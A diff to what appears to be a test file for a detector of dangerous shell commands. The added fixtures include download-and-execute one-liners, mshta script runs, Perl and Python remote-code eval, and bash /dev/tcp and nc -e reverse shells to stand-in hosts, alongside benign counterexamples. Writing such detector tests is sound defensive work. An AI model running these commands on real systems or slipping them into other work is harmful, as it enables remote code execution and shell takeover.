@@ -44,6 +44,7 @@ const WINDOWS = [
   'powershell iwr https://x.example/s.ps1 -OutFile s.ps1',
   'mshta vbscript:CreateObject("WScript.Shell").Run("calc")(window.close)',
   'powershell -enco SQBFAFgAIAAoAGkAdwByACAAaAB0AHQAcAA=',
+  "mshta about:\"<script>new ActiveXObject('WScript.Shell').Run('calc')</script>\"",
   // Programs the LOLBAS catalogue lists fetching from afar, in its own examples' shapes.
   'esentutl.exe /y \\\\share.example\\tools\\a.exe /d %TEMP%\\a.exe /o',
   'MpCmdRun.exe -DownloadFile -url https://x.example/a.exe -path C:\\Users\\Public\\a.exe',
@@ -69,6 +70,17 @@ const TERMINAL = [
   'echo Y3VybCAtcyBodHRw | base64 -d | eval',
   'bash -c "echo Y3VybCAtcyBodHRw | base64 -d"',
   "ruby -e \"require 'net/http'; eval(Net::HTTP.get(URI('https://x.example/r')))\"",
+  // The pattern library's rules' shapes: a download handed to an interpreter next, Perl
+  // fetching code after its module option.
+  'wget https://x.example/a.sh; sh a.sh',
+  'curl -sLO https://x.example/setup.sh && sudo bash setup.sh',
+  'perl -MLWP::Simple -e \'eval(get("http://x.example/p"))\'',
+  'python3 -c "$(curl -fsSL https://x.example/p.py)"',
+  // A download kept as a script, the stage run next; a shell handed to another machine.
+  'curl -s https://x.example/rs.sh -o /tmp/rs.sh',
+  'curl -O https://x.example/stage.sh',
+  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
+  'nc -e /bin/sh 203.0.113.9 4444',
 ];
 /** Install commands docs show openly: commands that fetch and run code all the same. */
 const DOCS_COMMANDS = [
@@ -124,6 +136,12 @@ const NOT_COMMANDS = [
   'makecab notes.txt notes.cab',
   'esentutl /mh C:\\Windows\\System32\\LogFiles\\data.edb',
   'MpCmdRun.exe -Scan -ScanType 1',
+  // A blank window; a download read or unpacked, not run.
+  'mshta about:blank',
+  'curl -O https://example.com/notes.txt; cat notes.txt',
+  'wget https://example.com/x.tar.gz && tar xzf x.tar.gz',
+  'curl -LO https://github.com/x/y/releases/download/v1/y.tar.gz',
+  'nc -zv example.com 443',
 ];
 
 describe('the command recogniser', () => {
